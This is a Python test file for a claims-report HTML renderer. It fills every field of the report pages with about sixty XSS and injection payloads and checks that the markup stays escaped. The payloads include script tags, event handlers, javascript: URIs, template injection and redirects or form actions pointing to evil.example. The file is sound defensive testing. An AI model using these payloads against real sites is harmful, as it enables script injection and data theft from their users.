"""Markup in any field of any page stays text: its tags and attributes are those of a clean page."""

import re
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from html.parser import HTMLParser

import pytest
from report_builders import TEXT, make_report, make_verdict

from claims.dates import Interval
from claims.relations import EntityKind
from claims.report import Report
from claims.report.cited import Cited
from claims.report.html import page_html
from claims.types import Entity, Failure, Label, Modality, Order, Slot, Source

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>",
    "</iframe><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert`1`>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="background:url(//evil.example)" x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<!--><img src=x onerror=alert(1)>-->",
    "--><img src=x onerror=alert(1)><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot; onclick=&quot;alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/\"onmouseover=alert(1)",
    "http://evil.example/'><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<b>{% endraw %}",
    "{% include '/etc/hostname' %}${7*7}#{7*7}",
    "expression(alert(1));}body{background:url(//evil.example)",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<\u200bscript>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


class _Shape(HTMLParser):
    """Elements and the names of their attributes, in order; texts and values aside."""

    def __init__(self, page):
        super().__init__()
        self.shape, self.links, self.frames, self.text = [], [], [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.shape.append((tag, *(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in ("href", "xlink:href", "src")]
        self.frames += [value for name, value in attrs if name == "srcdoc"]

    def handle_endtag(self, tag):
        self.shape.append(("/" + tag,))

    def handle_comment(self, data):
        self.shape.append(("!--",))

    def handle_decl(self, decl):
        self.shape.append(("!", decl))

    def unknown_decl(self, data):
        self.shape.append(("![",))

    def handle_pi(self, data):
        self.shape.append(("?",))

    def handle_data(self, data):
        self.text.append(data)


def _filled(value, text):
    """Put a text into every string of a noun and of all it holds; closed sets and dates stay."""
    if isinstance(value, Enum | Interval):
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, tuple | list):
        return type(value)(_filled(one, text) for one in value)
    if is_dataclass(value):
        return replace(value, **{f.name: _filled(getattr(value, f.name), text) for f in fields(value)})
    return value


def _reports(text):
    """A page with all there can be: two articles, a failure, notes, names, sources, every label."""
    slot = Slot(name="x", text="x", start=0, end=3, entity_id="x")
    verdicts = []
    for label in Label:
        claim = dict.fromkeys(("subject", "object", "role", "predecessor", "compared_with"), slot)
        claim |= {"founders": (slot, slot), "order": Order.BEFORE, "modality": Modality.REPORTED}
        made = _filled(make_verdict(TEXT, label=label, attributed_to="x", rule="x", **claim), text)
        rows = [replace(row, object_id=text, role=text, note=text, basis=text) for row in made.evidence]
        verdicts.append(replace(made, evidence=tuple(rows), expected=text, explanation=text))
    entity = Entity(entity_id=text, kind=EntityKind.ORGANISATION, label=text, official_name=text)
    source = _filled(Source(source_id="x", title="x", publisher="x", url="x", licence="x"), text)
    cited = Cited(entities={text: entity}, sources={text: source})
    one = make_report(f"The {text} League, founded in 1955, has 12 {text} members.", verdicts=verdicts)
    one = replace(one, article=replace(one.article, title=text, id=text), notes=(text, text), cited=cited)
    untitled = replace(one, article=replace(one.article, title=None, text=f"{text}\n\n{TEXT}"), verdicts=())
    failed = Report(failure=Failure(article_id=text, error=text, detail=text))
    return [one, untitled, failed]


def _clean(payload):
    """Letters of the same length in the same words; an address that is linked stays one."""
    scheme = re.match(r"https?://", payload)
    head = scheme.group() if scheme else ""
    return head + re.sub(r"\S", "x", payload[len(head) :])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_has_the_elements_of_a_clean_one(payload):
    seen, clean = (_Shape(page_html(_reports(text))) for text in (payload, _clean(payload)))
    assert seen.shape == clean.shape
    assert all(link.startswith(("#", "http://", "https://")) for link in seen.links)
    assert payload.replace("\x00", "").strip() in "".join(seen.text).replace("\x00", "").replace("\ufffd", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_notebooks_frame_has_them_too(payload):
    for report, twin in zip(_reports(payload), _reports(_clean(payload)), strict=True):
        seen, clean = _Shape(report._repr_html_()), _Shape(twin._repr_html_())
        assert seen.shape == clean.shape
        assert [_Shape(frame).shape for frame in seen.frames] == [_Shape(f).shape for f in clean.frames]
        assert len(seen.frames) == 1


def test_the_proof_sees_markup_that_gets_through():
    """The comparison itself: unescaped, every payload with a tag would show."""
    page = page_html(_reports("x"))
    broken = page.replace("<title>", "<title></title><img src=x onerror=alert(1)><title>", 1)
    assert _Shape(broken).shape != _Shape(page).shape
    assert len(set(PAYLOADS)) >= 40
